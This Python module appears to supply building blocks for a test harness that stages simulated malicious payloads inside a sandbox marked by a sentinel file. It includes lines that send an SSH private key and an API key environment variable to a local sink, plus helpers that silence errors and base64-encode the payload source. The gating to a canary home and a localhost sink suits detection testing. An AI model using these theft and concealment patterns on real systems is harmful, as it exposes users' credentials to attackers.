"""Pieces of harmless payload source that the rows share.

Each acts only in a home that holds the sentinel file, speaks only to the sinks named by the stage, and leaves nothing
but `*.mark` files behind.
"""

import base64
import textwrap

# loot(path) reads below the canary home, send(path, data) posts to the sink, mark(name) leaves a trace.
TOOLS = """
def _home():
    import os
    home = os.path.expanduser("~")
    if not os.path.exists(os.path.join(home, ".canary-home")):
        raise SystemExit("this is no stage")
    return home

def loot(path):
    import os
    with open(os.path.join(_home(), path), "rb") as file:
        return file.read()

def send(path, data):
    import os, urllib.request
    sink = os.environ["SINK"]
    if sink.startswith("http://127.0.0.1:"):
        urllib.request.urlopen(urllib.request.Request(sink + path, data), timeout=5).close()

def fetch(path):
    import os, urllib.request
    sink = os.environ["SINK"]
    if sink.startswith("http://127.0.0.1:"):
        with urllib.request.urlopen(sink + path, timeout=5) as answer:
            return answer.read()

def mark(name):
    import os
    with open(os.path.join(_home(), name + ".mark"), "a") as file:
        file.write("here\\n")

def mark_from_child(name):
    import subprocess, sys
    script = "import os; open(os.path.join(os.path.expanduser('~'), '%s.mark'), 'a').close()" % name
    subprocess.run([sys.executable, "-c", script], timeout=10)
"""
STEAL_KEY = 'send("/key", loot(".ssh/id_ed25519"))'
STEAL_VARIABLE = 'import os; send("/variable", os.environ["ACME_API_KEY"].encode())'


def quietly(*statements):
    """Return module source that runs `statements` with TOOLS at hand and swallows whatever goes wrong."""
    body = textwrap.indent("\n".join(statements), "    ")
    return f"{TOOLS}\ntry:\n{body}\nexcept Exception:\n    pass\n"


def function(name, *statements, arguments=""):
    """Return the source of a function, to go below TOOLS."""
    return f"\ndef {name}({arguments}):\n" + textwrap.indent("\n".join(statements), "    ") + "\n"


def encoded(source):
    """Return `source` in base64, as a text."""
    return base64.b64encode(source.encode()).decode()


def app(*statements):
    """Return the source of an application that does `statements` and says when it has come to its end."""
    return "\n".join([*statements, 'print("app done")', ""])
